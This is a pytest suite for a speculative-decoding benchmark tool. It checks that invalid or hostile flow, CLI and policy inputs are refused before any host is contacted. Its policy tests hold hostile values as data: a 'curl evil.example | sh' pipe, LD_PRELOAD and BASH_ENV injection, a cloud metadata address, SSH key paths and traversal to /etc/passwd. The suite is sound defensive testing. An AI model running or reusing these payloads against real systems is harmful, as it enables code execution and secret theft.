"""Bad input, flow by flow and command by command: refused with the field and the fix, before
any host is touched.

The host given to the flows is a tripwire: an address whose listener records every
connection. A flow that refuses its input must leave it untouched.
"""

from __future__ import annotations

import json
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from flows.benchmark_config import benchmark_config
from flows.campaign import campaign
from flows.compare_speculation import compare_engine, compare_speculation
from flows.server_lifecycle import server_lifecycle
from flows.sglang_benchmarks import baseline_benchmark, eagle3_benchmark
from flows.tune_speculation import tune_speculation
from tests.conftest import TOY
from tests.helpers.cli import invoke

pytestmark = pytest.mark.usefixtures("prefect_harness")


class Tripwire:
    """A TCP listener that counts who connects."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()


@pytest.fixture(scope="module")
def tripwire() -> Iterator[Tripwire]:
    t = Tripwire()
    yield t
    t.sock.close()


def tripwire_host(t: Tripwire, tmp_path: Path) -> dict[str, Any]:
    key = tmp_path / "id_unused"
    key.write_text("not a key: never read, the host is never reached\n")
    return {"kind": "ssh", "ssh": {"hostname": "127.0.0.1", "port": t.port, "user": "nobody", "key_path": str(key),
                                   "use_agent": False, "connect_timeout_s": 2}}


def profile(**over: Any) -> dict[str, Any]:
    return {"name": "toy", "argv": [sys.executable, TOY, "--port", "{port}"], "port": 39999, **over}


# (flow, parameters, what the error must say). Each names the field; pydantic's message says
# what a valid value is, the custom ones say what to do.
FLOW_CASES: dict[str, tuple[Any, dict[str, Any], list[str]]] = {
    "concurrency 0": (benchmark_config, {"profile": profile(), "benchmark": {"sweep": {"concurrency": [0, 8]}}},
                      ["benchmark.sweep.concurrency", "every concurrency level must be at least 1"]),
    "negative wait timeout": (benchmark_config, {"profile": profile(), "benchmark": {"stages": {"wait": {"timeout_s": -5}}}},
                              ["benchmark.stages.wait.timeout_s", "greater than 0"]),
    "negative request timeout": (benchmark_config, {"profile": profile(), "benchmark": {"request": {"timeout_s": -1}}},
                                 ["benchmark.request.timeout_s", "greater than 0"]),
    "negative retries": (server_lifecycle, {"profile": profile(), "stages": {"kill": {"retries": -1}}},
                         ["stages.kill.retries", "greater than or equal to 0"]),
    "port as text": (benchmark_config, {"profile": profile(port="eighty")}, ["profile.port", "valid integer"]),
    "port out of range": (benchmark_config, {"profile": profile(port=70000)}, ["profile.port", "less than or equal to 65535"]),
    "unknown profile field": (benchmark_config, {"profile": profile(colour="red")}, ["profile.colour", "Extra inputs"]),
    "unknown sweep field": (benchmark_config, {"profile": profile(), "benchmark": {"sweep": {"concurency": [1]}}},
                            ["benchmark.sweep.concurency", "Extra inputs"]),
    "argv as a string": (benchmark_config, {"profile": profile(argv="python -m sglang.launch_server")},
                         ["profile.argv", "valid list"]),
    "output length 0": (benchmark_config, {"profile": profile(), "benchmark": {"workload": {"output_len": 0}}},
                        ["benchmark.workload.output_len", "greater than or equal to 1"]),
    "file source without a file": (benchmark_config, {"profile": profile(), "benchmark": {"workload": {"source": "file"}}},
                                   ["benchmark.workload", "prompts_file"]),
    "SSH port 0": (benchmark_config, {"profile": profile(), "host": {"kind": "ssh", "ssh": {"hostname": "gpu", "port": 0}}},
                   ["host.ssh.port", "greater than or equal to 1"]),
    "ssh host without its settings": (benchmark_config, {"profile": profile(), "host": {"kind": "ssh"}},
                                      ["host", "ssh"]),
    "tp 0": (eagle3_benchmark, {"sglang": {"tp": 0}}, ["sglang.tp", "greater than or equal to 1"]),
    "steps as text": (baseline_benchmark, {"sglang": {"num_steps": "three"}}, ["sglang.num_steps", "valid integer"]),
    "unknown sglang field": (compare_engine, {"settings": {"engine": "sglang", "speculative_algo": "EAGLE3"}},
                             ["settings.speculative_algo", "Extra inputs"]),
    "settings without their engine": (compare_engine, {"settings": {"model_path": "/m/kimi"}},
                                      ["settings", "engine is missing", "one of sglang, vllm, llamacpp"]),
    "settings of an unknown engine": (compare_engine, {"settings": {"engine": "tensorrt-llm"}},
                                      ["settings", "'tensorrt-llm' is not an engine specsweep knows"]),
    "repeats 0": (compare_speculation, {"baseline": profile(), "speculative": profile(name="spec"),
                                        "benchmark": {"sweep": {"repeats": 0}}},
                  ["benchmark.sweep.repeats", "greater than or equal to 1"]),
    "llama.cpp slots 0": (compare_engine, {"settings": {"engine": "llamacpp", "parallel": 0}},
                          ["settings.parallel", "greater than or equal to 1"]),
    "vLLM EAGLE-3 without its draft": (compare_engine, {"settings": {"engine": "vllm", "model": "/m/llama",
                                                                     "method": "eagle3"}},
                                       ["settings", "draft_model is required for method eagle3"]),
    "vLLM method unknown": (compare_engine, {"settings": {"engine": "vllm", "model": "/m/llama", "method": "medusa"}},
                            ["settings.method", "'eagle3'"]),
    "vLLM K 0": (compare_engine, {"settings": {"engine": "vllm", "model": "/m/llama", "method": "ngram",
                                               "num_speculative_tokens": 0}},
                 ["settings.num_speculative_tokens", "greater than or equal to 1"]),
    "grid of another engine's field": (tune_speculation, {"grid": {"num_speculative_tokens": [1, 3]}},
                                       ["grid.num_speculative_tokens is not a llama.cpp speculation setting"]),
    "grid point SGLang refuses": (tune_speculation, {"settings": {"engine": "sglang", "simulate": True},
                                                     "grid": {"num_steps": [2], "num_draft_tokens": [5]}},
                                  ["grid point steps2-draft5", "num_draft_tokens = num_steps + 1"]),
    "grid settings of the wrong engine": (tune_speculation, {"settings": {"engine": "llamacpp", "model": "/m",
                                                                          "method": "ngram"}},
                                          ["settings.model", "Extra inputs"]),
    "search and request rates": (compare_engine, {"benchmark": {"sweep": {"search": {"min": 1, "max": 8},
                                                                          "request_rate": [2.0]}}},
                                 ["benchmark.sweep", "search chooses concurrency levels: give it or request_rate"]),
    "grid at request rates": (tune_speculation, {"benchmark": {"sweep": {"request_rate": [2.0, 8.0]}}},
                              ["benchmark.sweep.request_rate: a grid answers per batch-size range"]),
    "campaign at request rates": (campaign, {"hosts": [{}], "benchmark": {"sweep": {"request_rate": [2.0]}}},
                                  ["benchmark.sweep.request_rate: a campaign's answers per kind of host"]),
    "grid too large": (tune_speculation, {"grid": {"draft_max": list(range(1, 6)), "draft_min": [0, 1, 2, 3, 4]}},
                       ["the grid has 25 points (5 x 5); at most 24"]),
}


@pytest.mark.parametrize("case", list(FLOW_CASES))
async def test_flow_refuses_bad_parameters_before_touching_the_host(case: str, tripwire: Tripwire, tmp_path: Path) -> None:
    flow, params, needles = FLOW_CASES[case]
    if "host" in flow.parameters.properties and "host" not in params:  # type: ignore[attr-defined]
        params = {**params, "host": tripwire_host(tripwire, tmp_path)}
    if "benchmark" in flow.parameters.properties:  # type: ignore[attr-defined]
        params = {**params, "benchmark": {**params.get("benchmark", {}), "results": str(tmp_path / "results")}}
    before = tripwire.connections
    state = await flow(**params, return_state=True)
    assert state.is_failed()
    for needle in needles:
        assert needle in (state.message or ""), state.message
    assert tripwire.connections == before, "the host was touched"
    assert not (tmp_path / "results").exists()


def prompts_file(tmp_path: Path, kind: str) -> Path:
    path = tmp_path / f"prompts-{kind}.jsonl"
    if kind == "empty":
        path.write_text("")
    elif kind == "not UTF-8":
        path.write_bytes(b'{"prompt": "caf\xe9"}\n')
    elif kind == "not JSONL":
        path.write_text("prompt,length\nhello,5\n")
    elif kind == "no prompt field":
        path.write_text(json.dumps({"text": "hello"}) + "\n")
    else:
        path = tmp_path / "nowhere.jsonl"
    return path


PROMPT_CASES = {
    "empty": "holds no prompts: add one",
    "not UTF-8": "is not UTF-8 text: save it as UTF-8 JSONL",
    "not JSONL": "line 1 is not JSON: each line must be an object like",
    "no prompt field": "line 1 has neither a string 'prompt' nor 'messages'",
    "missing": "does not exist: give the path of a JSONL or Parquet file",
}


@pytest.mark.parametrize("kind", list(PROMPT_CASES))
async def test_bad_prompt_files_are_refused_before_touching_the_host(kind: str, tripwire: Tripwire, tmp_path: Path) -> None:
    path = prompts_file(tmp_path, kind)
    before = tripwire.connections
    state = await benchmark_config(profile=profile(), host=tripwire_host(tripwire, tmp_path),  # type: ignore[arg-type]
                                   benchmark={"workload": {"source": "file", "prompts_file": str(path)},  # type: ignore[arg-type]
                                              "results": str(tmp_path / "results")}, return_state=True)
    assert state.is_failed()
    assert f"prompts_file {path}" in (state.message or "") and PROMPT_CASES[kind] in (state.message or ""), state.message
    assert tripwire.connections == before, "the host was touched"


async def test_missing_secret_block_is_named_before_touching_the_host(tripwire: Tripwire, tmp_path: Path) -> None:
    before = tripwire.connections
    state = await benchmark_config(profile=profile(api_key_secret="no-such-secret"),  # type: ignore[arg-type]
                                   host=tripwire_host(tripwire, tmp_path), return_state=True,  # type: ignore[arg-type]
                                   benchmark={"results": str(tmp_path / "results")})  # type: ignore[arg-type]
    assert state.is_failed()
    assert "profile.api_key_secret: there is no Prefect Secret block named 'no-such-secret'" in (state.message or "")
    assert tripwire.connections == before


async def test_unresolvable_host_is_a_clear_error(tmp_path: Path) -> None:
    host = {"kind": "ssh", "ssh": {"hostname": "gpu-box.does-not-exist.invalid", "user": "root", "use_agent": False,
                                   "connect_timeout_s": 3}}
    state = await benchmark_config(profile=profile(), host=host, return_state=True,  # type: ignore[arg-type]
                                   benchmark={"results": str(tmp_path / "results"),  # type: ignore[arg-type]
                                              "stages": {"kill": {"retries": 0}}})
    assert state.is_failed()
    assert "cannot resolve SSH host 'gpu-box.does-not-exist.invalid'" in (state.message or "")
    assert "ssh.hostname" in (state.message or "")


async def test_port_in_use_names_the_holder_and_the_fix(tmp_path: Path) -> None:
    # The holder is this test process: one that kill_server never kills (it spares its own
    # process tree), as it would a port held by another user's program. (A stray server from
    # an earlier run is killed: see test_lifecycle_local.)
    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))
        holder.listen(1)
        port = holder.getsockname()[1]
        state = await benchmark_config(profile=profile(port=port), return_state=True,  # type: ignore[arg-type]
                                       benchmark={"results": str(tmp_path / "results"),  # type: ignore[arg-type]
                                                  "stages": {"start": {"retries": 0}}})
        assert state.is_failed()
        message = state.message or ""
        assert f"port {port} on local is already in use by" in message and "kill_port_holder" in message
        # The holder was left alone: it still answers.
        socket.create_connection(("127.0.0.1", port), timeout=2).close()


# -- the command line ------------------------------------------------------------------------

CLI_CASES = {
    "concurrency 0": (["bench", "--url", "http://127.0.0.1:9", "--concurrency", "0"],
                      "every concurrency level must be at least 1"),
    "concurrency as text": (["bench", "--url", "http://127.0.0.1:9", "--concurrency", "one,two"], "--concurrency"),
    "negative timeout": (["bench", "--url", "http://127.0.0.1:9", "--timeout", "-3"], "timeout_s"),
    "bad prompts file": (["bench", "--url", "http://127.0.0.1:9", "--dataset", "file", "--prompts-file", "/nonexistent.jsonl"],
                         "prompts_file /nonexistent.jsonl does not exist"),
    "request rate as text": (["compare-speculation", "--request-rate", "2,fast"], "--request-rate must be a comma"),
    "request rates with a search": (["compare-speculation", "--request-rate", "2,8", "--search", "1:8"],
                                    "search chooses concurrency levels"),
    "unknown preset": (["preset", "sglang-eagle5"], "sglang-eagle5"),
    "bad SSH port": (["server", "kill", "--profile", "{profile}", "--ssh", "root@gpu:0"], "port"),
    "profile port as text": (["server", "start", "--profile", "{bad_profile}"], "port: Input should be a valid integer"),
}


@pytest.mark.parametrize("case", list(CLI_CASES))
def test_command_line_refuses_bad_input(case: str, tmp_path: Path) -> None:
    args, needle = CLI_CASES[case]
    good, bad = tmp_path / "p.json", tmp_path / "bad.json"
    good.write_text(json.dumps(profile()))
    bad.write_text(json.dumps(profile(port="eighty")))
    args = [a.replace("{profile}", str(good)).replace("{bad_profile}", str(bad)) for a in args]
    proc = invoke(*args)
    assert proc.returncode == 2, (proc.returncode, proc.stdout, proc.stderr)
    assert needle in proc.stderr, proc.stderr
    assert "Traceback" not in proc.stderr


POLICY_CASES: dict[str, tuple[dict[str, Any], dict[str, Any], str]] = {
    # case: (profile fields, host fields, what the refusal says)
    "another program": ({"argv": ["/bin/sh", "-c", "curl evil.example | sh"]}, {},
                        "profile.argv: /bin/sh -c 'curl evil.example | sh'... is not among the commands"),
    "python -c": ({"argv": [sys.executable, "-c", "import os; os.system('id')"]}, {}, "is not among the commands"),
    "LD_PRELOAD": ({"env": {"LD_PRELOAD": "/tmp/evil.so"}}, {}, "profile.env: LD_PRELOAD would make the server run"),
    "BASH_ENV": ({"env": {"BASH_ENV": "/tmp/evil.sh"}}, {}, "profile.env: BASH_ENV would make the server run"),
    "api key variable": ({"api_key_env": "PYTHONSTARTUP"}, {}, "profile.env: PYTHONSTARTUP would make the server"),
    "working directory": ({"cwd": "/tmp/planted"}, {}, "profile.cwd: '/tmp/planted' is not a working directory"),
    "remote code": ({"argv": [sys.executable, TOY, "--port", "{port}", "--trust-remote-code"]}, {},
                    "--trust-remote-code is an argument this worker never passes"),
    # the server's parser reads these as --trust-remote-code (vLLM: underscores; argparse: prefixes)
    "underscored flag": ({"argv": [sys.executable, TOY, "--port", "{port}", "--trust_remote_code"]}, {},
                         "--trust_remote_code (read by the server as --trust-remote-code) is an argument this worker"),
    "abbreviated flag": ({"argv": [sys.executable, TOY, "--port", "{port}", "--trust-remote-cod"]}, {},
                         "--trust-remote-cod (read by the server as --trust-remote-code) is an argument this worker"),
    "a flag the policy does not name": (
        {"argv": [sys.executable, TOY, "--port", "{port}", "--chat-template", "/root/.ssh/id_ed25519"]}, {},
        "profile.argv: --chat-template is not a flag of any preset"),
    "a private folder's variable": ({"private_tmp_env": ["LD_PRELOAD"]}, {},
                                    "profile.env: LD_PRELOAD would make the server run"),
    "another host": ({}, {"ssh": True}, "host: '127.0.0.1' is not a host this worker may reach"),
    # the tunnel would forward to the cloud's metadata service, seen from the GPU host
    "a tunnel off the host's loopback": ({"host": "169.254.169.254"}, {"ssh": True, "allow_host": True},
                                        "profile.host: '169.254.169.254' is not an address this worker sends"),
    "direct traffic elsewhere": ({}, {"ssh": True, "allow_host": True, "traffic": "direct",
                                      "http_address": "169.254.169.254"},
                                 "host.http_address: '169.254.169.254' is not an address this worker sends"),
    "host_python": ({}, {"load_generator": "host", "host_python": "/tmp/evil"},
                    "host.host_python: /tmp/evil -I -m specsweep.bench.remote... is not among the commands"),
}


@pytest.mark.parametrize("case", list(POLICY_CASES))
async def test_the_workers_policy_refuses_what_it_does_not_allow_before_anything_runs(
        case: str, tripwire: Tripwire, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What a run may launch is decided by the worker's policy file, not by the run's parameters (anyone who
    can reach a Prefect OSS server can start runs): a refused run fails before any host is touched, naming
    the rule and the file."""
    policy_file = tmp_path / "policy.toml"
    policy_file.write_text(f'hosts = ["local"]\ncommands = ["{sys.executable} {TOY}"]\nresults = ["{tmp_path}"]\n'
                           f'env = ["HF_TOKEN"]\nargs = {{custom = ["--port="]}}\nssh_files = ["{tmp_path}"]\n')
    monkeypatch.setenv("SPECSWEEP_POLICY", str(policy_file))
    fields, host_fields, needle = POLICY_CASES[case]
    host: dict[str, Any] = {}
    if host_fields:  # an SSH host (the tripwire): reached only if the policy let the run through
        host = {**tripwire_host(tripwire, tmp_path),
                **{k: v for k, v in host_fields.items() if k not in ("ssh", "allow_host")}}
    if "host_python" in host_fields or host_fields.get("allow_host"):  # the host is allowed: what it is asked isn't
        policy_file.write_text(policy_file.read_text().replace('hosts = ["local"]', 'hosts = ["local", "127.0.0.1"]'))
    before = tripwire.connections
    state = await benchmark_config(profile=profile(**fields), host=host, return_state=True,  # type: ignore[arg-type]
                                   benchmark={"results": str(tmp_path / "results")})  # type: ignore[arg-type]
    assert state.is_failed()
    assert needle in (state.message or ""), state.message
    assert f"policy ({policy_file})" in (state.message or "") and "SPECSWEEP_POLICY" in (state.message or "")
    assert tripwire.connections == before, "the host was touched"
    assert not (tmp_path / "results").exists()


async def test_no_parameter_lifts_the_policy_and_no_results_root_escapes_it(tmp_path: Path,
                                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    policy_file = tmp_path / "policy.toml"
    policy_file.write_text(f'commands = ["{sys.executable} {TOY}"]\nresults = ["{tmp_path}/results"]\n'
                           'args = {custom = ["--port="]}\n')
    monkeypatch.setenv("SPECSWEEP_POLICY", str(policy_file))
    lifted = await benchmark_config(profile=profile(), host={"allowed_commands": None}, return_state=True,  # type: ignore[arg-type]
                                    benchmark={"results": str(tmp_path / "results")})  # type: ignore[arg-type]
    assert lifted.is_failed() and "allowed_commands" in (lifted.message or "") and "xtra" in (lifted.message or "")
    for root, needle in ((f"{tmp_path}/results/../../etc", "climbs out of its folder"),
                         ("/etc", "'/etc' is not a results root this worker may write")):
        state = await benchmark_config(profile=profile(), return_state=True,  # type: ignore[arg-type]
                                       benchmark={"results": root})  # type: ignore[arg-type]
        assert state.is_failed() and needle in (state.message or ""), state.message
    # A policy file that is named but missing is an error, not the permissive default.
    monkeypatch.setenv("SPECSWEEP_POLICY", str(tmp_path / "missing.toml"))
    state = await benchmark_config(profile=profile(), return_state=True,  # type: ignore[arg-type]
                                   benchmark={"results": str(tmp_path / "results")})  # type: ignore[arg-type]
    assert state.is_failed() and "missing.toml (SPECSWEEP_POLICY) does not exist" in (state.message or "")


async def test_files_the_worker_reads_stay_in_the_policys_folders_and_size(tmp_path: Path,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """A prompts file or tokenizer anywhere on the worker was read and its lines sent to the server; a ShareGPT
    source of /dev/zero read without end; a bundled set's name climbed out of data/prompts."""
    prompts = tmp_path / "prompts" / "big.jsonl"
    prompts.parent.mkdir()
    prompts.write_text('{"prompt": "hello"}\n' * 100)
    policy_file = tmp_path / "policy.toml"
    policy_file.write_text(f'commands = ["{sys.executable} {TOY}"]\nresults = ["{tmp_path}/results"]\n'
                           f'args = {{custom = ["--port="]}}\nread = ["{tmp_path}/prompts", "/dev"]\n'
                           "read_max_bytes = 1024\n")
    monkeypatch.setenv("SPECSWEEP_POLICY", str(policy_file))
    cases = [({"source": "file", "prompts_file": "/etc/hostname"},
              "benchmark.workload.prompts_file: '/etc/hostname' is not inside a folder this worker reads"),
             ({"source": "sharegpt", "prompts_file": "/dev/zero"}, "'/dev/zero' is not a regular file"),
             ({"source": "file", "prompts_file": str(prompts)}, "bytes, more than this worker reads"),
             ({"tokenizer": "/root/.ssh"}, "benchmark.workload.tokenizer: '/root/.ssh' is not inside a folder"),
             ({"source": "bundled", "bundled_set": "../../../etc/passwd"}, "benchmark.workload.bundled_set")]
    for workload, needle in cases:
        state = await benchmark_config(profile=profile(), return_state=True,  # type: ignore[arg-type]
                                       benchmark={"results": str(tmp_path / "results"),  # type: ignore[arg-type]
                                                  "workload": workload})
        assert state.is_failed() and needle in (state.message or ""), (workload, state.message)
    assert not (tmp_path / "results").exists()


async def test_a_results_block_pointing_at_a_strangers_store_is_refused(tripwire: Tripwire, tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """The block's endpoint_url was not checked: results went to a server the reviewer stood up, with requests
    signed by the worker's key. The stranger's store (the tripwire) is never reached."""
    from orchestration.blocks import ResultsBlock

    policy_file = tmp_path / "policy.toml"
    policy_file.write_text(f'commands = ["{sys.executable} {TOY}"]\nresults = ["s3://specsweep-results"]\n'
                           'args = {custom = ["--port="]}\nendpoints = ["http://minio.lab.example:9000"]\n')
    monkeypatch.setenv("SPECSWEEP_POLICY", str(policy_file))
    await ResultsBlock(url="s3://specsweep-results/x", endpoint_url=f"http://127.0.0.1:{tripwire.port}").asave(
        "stranger-store", overwrite=True)
    before = tripwire.connections
    state = await benchmark_config(profile=profile(), return_state=True,  # type: ignore[arg-type]
                                   benchmark={"results_block": "stranger-store"})  # type: ignore[arg-type]
    assert state.is_failed(), state.message
    assert f"'stranger-store'.endpoint_url: 'http://127.0.0.1:{tripwire.port}' is not a results endpoint" in (
        state.message or ""), state.message
    assert "rule 'endpoints'" in (state.message or "") and tripwire.connections == before


async def test_a_run_chooses_no_ssh_trust_the_policy_does_not_give(tripwire: Tripwire, tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """key_path, known_hosts and accept_unknown_host_key came from run parameters or editable block fields: a
    run named the worker's files and trusted any host key. Refused before the host is reached."""
    from orchestration.blocks import SSHHostBlock

    policy_file = tmp_path / "policy.toml"
    policy_file.write_text(f'hosts = ["127.0.0.1"]\ncommands = ["{sys.executable} {TOY}"]\n'
                           f'results = ["{tmp_path}"]\nargs = {{custom = ["--port="]}}\n')
    monkeypatch.setenv("SPECSWEEP_POLICY", str(policy_file))
    host = tripwire_host(tripwire, tmp_path)
    trusting = {**host, "ssh": {**host["ssh"], "key_path": None, "accept_unknown_host_key": True}}
    await SSHHostBlock(hostname="127.0.0.1", port=tripwire.port, accept_unknown_host_key=True).asave(
        "trusting", overwrite=True)
    before = tripwire.connections
    for given, needle in ((host, "host.ssh.key_path: "),
                          (trusting, "host.ssh.accept_unknown_host_key: a run may not trust a host key"),
                          ({"block": "trusting"}, "ssh-host block 'trusting'.accept_unknown_host_key")):
        state = await benchmark_config(profile=profile(), host=given, return_state=True,  # type: ignore[arg-type]
                                       benchmark={"results": str(tmp_path / "results")})  # type: ignore[arg-type]
        assert state.is_failed() and needle in (state.message or ""), state.message
    assert tripwire.connections == before, "the host was touched"
